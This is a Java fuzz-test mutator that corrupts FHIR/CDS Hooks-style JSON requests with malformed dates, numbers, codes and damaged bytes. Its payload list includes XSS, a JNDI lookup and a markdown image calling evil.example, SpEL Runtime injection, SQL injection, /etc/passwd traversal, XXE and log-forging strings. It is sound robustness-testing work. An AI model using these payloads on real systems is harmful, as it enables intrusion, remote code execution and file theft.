package no.marg.abuse;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import tools.jackson.core.StreamWriteConstraints;
import tools.jackson.core.json.JsonFactory;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ContainerNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Damages JSON as careless and hostile clients do: first as a tree, then sometimes as text and as
 * bytes. Everything follows from the random numbers given.
 */
final class Mutator {
  /**
   * Escapes all that is not ASCII, so that half a surrogate pair stays what it is. Two nestings may
   * meet in one place: such a request is to be sent, however deep, so the writer has room for it.
   */
  private static final JsonMapper ASCII =
      JsonMapper.builder(
              JsonFactory.builder()
                  .enable(JsonWriteFeature.ESCAPE_NON_ASCII)
                  .streamWriteConstraints(
                      StreamWriteConstraints.builder().maxNestingDepth(5_000).build())
                  .build())
          .build();

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final List<String> DATES =
      List.of(
          "soon",
          "",
          "0000",
          "0000-00-00",
          "2026-02-30",
          "2026-13-01",
          "9999-12-31",
          "99999",
          "2026-02-10T08:00",
          "2026-02-10T24:00:00Z",
          "2026-02-10T08:00:00+99:00",
          "-2026",
          "2026-02-15T23:59:60Z",
          "20260215",
          "1900-02-29",
          "2026-W07-1",
          "1e9",
          "٢٠٢٦-٠٢-١٥");
  private static final List<String> CODES =
      List.of(
          "entered-in-error",
          "draft",
          "unknown",
          "final",
          "preliminary",
          "bogus",
          "active",
          "order",
          "98979-8",
          "L04AX04",
          "mg",
          "g/dL",
          "mL/min/{1.73_m2}",
          "{{context.patientId}}",
          "%",
          "mm-fact",
          "true",
          "http://loinc.org",
          "http://snomed.info/sct",
          "Patient/p2",
          "Patient/",
          "#",
          "#self",
          "urn:uuid:1",
          "Observation",
          "Bundle",
          "Patient",
          "next");
  private static final List<String> NUMBERS =
      List.of(
          "0",
          "-1",
          "-0.0",
          "1e400",
          "-1e400",
          "1e-400",
          "1E+2147483647",
          "1e-2147483648",
          "0.1",
          "9223372036854775808",
          "123456789012345678901234567890",
          "2147483648",
          "00",
          "NaN",
          "0x10",
          "1.",
          "28.000000000000000000000000000000000001");

  private final Random random;
  private final String mark;
  private final List<String> texts;

  /**
   * A mutator.
   *
   * @param mark stands in every text that is put in
   */
  Mutator(Random random, String mark) {
    this.random = random;
    this.mark = mark;
    this.texts =
        List.of(
            mark,
            "<script>alert('" + mark + "')</script>",
            "[" + mark + "](javascript:alert(1))",
            "![x](https://evil.example/" + mark + ".png)",
            "javascript:" + mark,
            "**" + mark + "** | # `x` \n\n- y\n1. z\n> q\n```\n",
            "| " + mark + " | --- |\n| --- | --- |",
            "\ud800" + mark,
            mark + "\udc00\ud800",
            "\u0000\u0007\u001b[31m" + mark,
            "\u202e" + mark + "\u2066\ufeff",
            mark + "\r\nservice=forged call=forged",
            "${jndi:ldap://evil.example/" + mark + "}",
            "#{T(java.lang.Runtime).getRuntime()}" + mark,
            "' OR 1=1 --" + mark,
            "../../../etc/passwd " + mark,
            "😀".repeat(80) + mark,
            (mark + "-").repeat(600),
            "<![CDATA["
                + mark
                + "]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///'>]>",
            "%s%n%x{} {} " + mark);
  }

  /** A copy of a request with a few changes, as bytes to send. */
  byte[] mutate(ObjectNode request) {
    ObjectNode copy = request.deepCopy();
    int changes = 1 + random.nextInt(4);
    for (int i = 0; i < changes; i++) {
      change(copy);
    }
    String text;
    try {
      text = ASCII.writeValueAsString(copy);
    } catch (StackOverflowError e) {
      throw new AssertionError("The test nested too deep for its own writer", e);
    }
    if (random.nextInt(6) == 0) {
      text = damage(text);
    }
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    return random.nextInt(25) == 0 ? damage(bytes) : bytes;
  }

  private record Place(ContainerNode<?> parent, String name, int index) {
    JsonNode get() {
      return parent instanceof ObjectNode object ? object.get(name) : parent.get(index);
    }

    void set(JsonNode value) {
      if (parent instanceof ObjectNode object) {
        object.set(name, value);
      } else {
        ((ArrayNode) parent).set(index, value);
      }
    }
  }

  private void change(ObjectNode root) {
    Place place = place(root);
    if (place == null) {
      return;
    }
    JsonNode old = place.get();
    switch (random.nextInt(16)) {
      case 0, 1 -> remove(place);
      case 2 -> place.set(NODES.nullNode());
      case 3 -> place.set(NODES.stringNode(pick(texts)));
      case 4 -> place.set(NODES.stringNode(pick(DATES)));
      case 5 -> place.set(NODES.stringNode(pick(CODES)));
      case 6 -> place.set(number());
      case 7 -> place.set(NODES.booleanNode(random.nextBoolean()));
      case 8 -> place.set(random.nextBoolean() ? NODES.objectNode() : NODES.arrayNode());
      case 9 -> place.set(NODES.arrayNode().add(old));
      case 10 -> place.set(NODES.objectNode().set(pick(CODES), old));
      case 11 -> place.set(nested(old));
      case 12 -> {
        Place other = place(root);
        if (other != null && other.parent() != place.parent() && !contains(old, other.parent())) {
          place.set(other.get().deepCopy());
        }
      }
      case 13 -> {
        if (place.parent() instanceof ObjectNode object) {
          object.set(random.nextBoolean() ? pick(texts) : pick(CODES), old.deepCopy());
        } else {
          ArrayNode array = (ArrayNode) place.parent();
          int times = random.nextInt(20) == 0 ? 300 : 2;
          for (int i = 0; i < times; i++) {
            array.add(old.deepCopy());
          }
        }
      }
      case 14 -> {
        if (place.parent() instanceof ObjectNode object && object.has("resourceType")) {
          object.put(
              "resourceType",
              pick(
                  List.of(
                      "Patient",
                      "Observation",
                      "Basic",
                      "Binary",
                      "Bundle",
                      "Parameters",
                      "OperationOutcome",
                      "MedicationRequest",
                      "List",
                      "Nothing")));
        } else {
          remove(place);
        }
      }
      default -> place.set(NODES.stringNode(old.isString() ? twist(old.asString()) : pick(CODES)));
    }
  }

  /** A value somewhere in the tree; null when there is none. */
  private Place place(ObjectNode root) {
    ContainerNode<?> at = start(root);
    Place place = null;
    int depth = 1 + random.nextInt(9);
    for (int i = 0; i < depth; i++) {
      if (at.isEmpty()) {
        return place;
      }
      int index = random.nextInt(at.size());
      if (at instanceof ObjectNode object) {
        place = new Place(at, new ArrayList<>(object.propertyNames()).get(index), -1);
      } else {
        place = new Place(at, "", index);
      }
      if (!(place.get() instanceof ContainerNode<?> below)) {
        return place;
      }
      at = below;
    }
    return place;
  }

  /** Mostly a resource; what stands around them is small and would be hit too often. */
  private ContainerNode<?> start(ObjectNode root) {
    if (random.nextInt(8) == 0) {
      return root;
    }
    List<JsonNode> bundles = new ArrayList<>();
    for (String part : List.of("prefetch", "context", "parameter")) {
      for (JsonNode each : root.path(part)) {
        bundles.add(each.has("resource") ? each.get("resource") : each);
      }
    }
    bundles.removeIf(each -> !each.path("entry").isArray() || each.get("entry").isEmpty());
    if (bundles.isEmpty()) {
      return root;
    }
    JsonNode entries = bundles.get(random.nextInt(bundles.size())).get("entry");
    return entries.get(random.nextInt(entries.size())) instanceof ObjectNode entry
            && entry.path("resource") instanceof ObjectNode resource
        ? resource
        : root;
  }

  private static boolean contains(JsonNode tree, JsonNode wanted) {
    if (tree == wanted) {
      return true;
    }
    for (JsonNode child : tree) {
      if (contains(child, wanted)) {
        return true;
      }
    }
    return false;
  }

  private static void remove(Place place) {
    if (place.parent() instanceof ObjectNode object) {
      object.remove(place.name());
    } else {
      ((ArrayNode) place.parent()).remove(place.index());
    }
  }

  private JsonNode nested(JsonNode inner) {
    JsonNode nested = inner;
    int depth = 1 + random.nextInt(random.nextInt(10) == 0 ? 450 : 5);
    for (int i = 0; i < depth; i++) {
      nested =
          random.nextBoolean()
              ? NODES.arrayNode().add(nested)
              : NODES.objectNode().set("extension", nested);
    }
    return nested;
  }

  private JsonNode number() {
    return switch (random.nextInt(4)) {
      case 0 -> NODES.numberNode(random.nextLong());
      case 1 -> NODES.numberNode(random.nextDouble() * 1e6 - 5e5);
      case 2 -> NODES.numberNode(new java.math.BigDecimal("1e400"));
      default -> NODES.numberNode(random.nextInt(200) - 50);
    };
  }

  /** Changes one character, case or end of a text. */
  private String twist(String text) {
    if (text.isEmpty()) {
      return mark;
    }
    int at = random.nextInt(text.length());
    return switch (random.nextInt(6)) {
      case 0 -> text.substring(0, at);
      case 1 -> text.toUpperCase(java.util.Locale.ROOT);
      case 2 -> text + " ";
      case 3 -> text.substring(0, at) + (char) random.nextInt(0x10000) + text.substring(at + 1);
      case 4 -> text + text;
      default -> text.substring(0, at) + pick(texts) + text.substring(at);
    };
  }

  private String damage(String text) {
    int at = random.nextInt(text.length());
    int end = Math.min(text.length(), at + 1 + random.nextInt(60));
    String head = text.substring(0, at);
    return switch (random.nextInt(9)) {
      case 0 -> head;
      case 1 -> head + text.substring(end);
      case 2 -> text.substring(0, end) + text.substring(at);
      case 3 -> head + pick(NUMBERS) + text.substring(at);
      case 4 ->
          head
              + pick(List.of("{", "}", "[", "]", ",", ":", "\"", "\\", "\\u", "/*", "//"))
              + text.substring(at);
      case 5 -> text.replaceFirst("\"(value|id|status|hook|reference)\":", "\"$1\":\"x\",\"$1\":");
      case 6 -> text.replaceFirst("\"value\":[-0-9.]+", "\"value\":" + pick(NUMBERS));
      case 7 -> "\ufeff" + text;
      default -> text + pick(List.of("{}", "x", "\u0000", " \n", "]"));
    };
  }

  private byte[] damage(byte[] bytes) {
    return switch (random.nextInt(3)) {
      case 0 -> new String(bytes, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16);
      case 1 -> {
        for (int i = 0; i < 3; i++) {
          bytes[random.nextInt(bytes.length)] = (byte) (0x80 + random.nextInt(0x80));
        }
        yield bytes;
      }
      default -> new byte[0];
    };
  }

  private String pick(List<String> all) {
    return all.get(random.nextInt(all.size()));
  }
}
